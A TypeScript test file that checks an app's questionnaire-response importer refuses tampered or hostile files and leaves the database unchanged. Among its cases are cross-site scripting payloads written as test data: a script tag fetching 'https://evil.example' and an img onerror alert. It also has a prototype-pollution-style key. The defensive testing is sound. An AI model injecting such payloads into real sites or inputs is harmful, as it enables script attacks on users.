import { describe, expect, it } from 'vitest';
import { createClient } from '../../../../src/db/clients/clients';
import { applyResponses, type ReadyResponse } from '../../../../src/db/questionnaires/apply';
import { checkResponseFiles, type FileToCheck } from '../../../../src/db/questionnaires/import';
import { createQuestionnaire } from '../../../../src/db/questionnaires/questionnaires';
import type { CaioDatabase } from '../../../../src/db/core/schema';
import { MAX_RESPONSE_BYTES, type ResponseFile } from '../../../../src/domain/questionnaires';
import { ANNA, resign, responseFile } from '../../domain/questionnaires/responseKit';
import { freshDb } from '../testDb';

/** Every record of every table, to prove a refused import changed nothing. */
async function snapshot(db: CaioDatabase) {
  return Object.fromEntries(
    await Promise.all(db.tables.map(async (t) => [t.name, await t.toArray()] as const)),
  );
}

const asFile = (name: string, file: ResponseFile | string): FileToCheck => {
  const text = typeof file === 'string' ? file : JSON.stringify(file);
  return { name, size: text.length, text: async () => text };
};

describe('hostile response files are refused and change nothing', () => {
  it('refuses each with its own message', async () => {
    const db = await freshDb();
    const client = await createClient(db, { name: 'Brightside Staffing' });
    const other = await createClient(db, { name: 'Vanguard Accountants' });
    const survey = await createQuestionnaire(db, client.id, { templateId: 'builtin-shadow-ai' });
    const otherSurvey = await createQuestionnaire(db, other.id, { templateId: 'builtin-shadow-ai' });
    const good = await responseFile(survey, { name: 'Anna' }, ANNA);

    const cases: [string, ResponseFile | string, RegExp][] = [
      [
        'wrong client',
        await responseFile(otherSurvey, { name: 'Anna' }, ANNA),
        /belongs to another client, not Brightside Staffing/,
      ],
      [
        'questionnaire of another client, relabelled',
        await resign({ ...(await responseFile(otherSurvey, { name: 'Anna' }, ANNA)), clientId: client.id }),
        /does not have/,
      ],
      [
        'wrong version',
        await responseFile({ ...survey, version: 2 }, { name: 'Anna' }, ANNA),
        /answers version 2 .* is version 1/,
      ],
      [
        'changed checksum',
        { ...good, checksum: { algorithm: 'SHA-256', value: 'f'.repeat(64) } },
        /checksum does not match/,
      ],
      [
        'answer changed after saving',
        { ...good, answers: { ...good.answers, confidence: 5 } },
        /checksum does not match/,
      ],
      [
        'huge answer',
        await resign({ ...good, answers: { ...good.answers, ideaDetail: 'x'.repeat(20_000) } }),
        /20,000 characters long; at most 5,000/,
      ],
      ['huge file', JSON.stringify({ ...good, padding: 'x'.repeat(MAX_RESPONSE_BYTES) }), /larger than 1 MB/],
      [
        'script in an answer',
        await resign({
          ...good,
          answers: { ...good.answers, concerns: 'ok <script>fetch("https://evil.example")</script>' },
        }),
        /contains script code/,
      ],
      [
        'script in an explanation',
        await resign({
          ...good,
          answers: { ...good.answers, usesAi: { answer: 'yes', explain: '<img src=x onerror=alert(1)>' } },
        }),
        /contains script code/,
      ],
      [
        'an option the question does not have',
        await resign({ ...good, answers: { ...good.answers, tools: ['ChatGPT', 'EvilGPT'] } }),
        /not a valid answer/,
      ],
      [
        'a question the questionnaire does not have',
        await resign({ ...good, answers: { ...good.answers, __proto__x: 'x' } }),
        /does not have/,
      ],
      [
        'required answer missing',
        await resign({ ...good, answers: { usesAi: { answer: 'yes', explain: '' } } }),
        /is required but has no answer/,
      ],
      ['not JSON', '{"format": "caio-desk-response", "answers": {', /not valid JSON/],
      ['a backup instead', JSON.stringify({ format: 'caio-desk-backup' }), /not a CAIO Desk response file/],
      ['newer format', JSON.stringify({ ...good, formatVersion: 9 }), /newer format/],
      [
        'no respondent name',
        await resign({ ...good, respondent: { ...good.respondent, name: '   ' } }),
        /respondent/,
      ],
    ];
    const before = await snapshot(db);
    const preview = await checkResponseFiles(
      db,
      client.id,
      cases.map(([name, file]) => asFile(name, file)),
    );
    for (const [index, [name, , message]] of cases.entries()) {
      const result = preview.files[index];
      expect(result.status, name).toBe('refused');
      if (result.status === 'refused') expect(result.problem, name).toMatch(message);
    }
    await applyResponses(db, client.id, preview.files.filter((f) => f.status === 'ready') as ReadyResponse[]);
    expect(await snapshot(db)).toEqual(before);
  });

  it('a response of another client cannot be applied, and a failing write leaves nothing behind', async () => {
    const db = await freshDb();
    const client = await createClient(db, { name: 'Brightside Staffing' });
    const other = await createClient(db, { name: 'Vanguard Accountants' });
    const otherSurvey = await createQuestionnaire(db, other.id, { templateId: 'builtin-shadow-ai' });
    const preview = await checkResponseFiles(db, other.id, [
      asFile('a.json', await responseFile(otherSurvey, { name: 'Anna' }, ANNA)),
    ]);
    const ready = preview.files.filter((f) => f.status === 'ready') as ReadyResponse[];
    const before = await snapshot(db);
    await expect(applyResponses(db, client.id, ready)).rejects.toThrow('another client');
    // The second response's idea has an empty title after the first wrote its systems: the use case is refused, so nothing lands.
    const broken = [
      ...ready,
      {
        ...ready[0],
        plan: { ...ready[0].plan, ideas: [{ title: ' ', problem: '', respondent: 'X', department: '' }] },
      },
    ];
    await expect(applyResponses(db, other.id, broken)).rejects.toThrow();
    expect(await snapshot(db)).toEqual(before);
  });
});
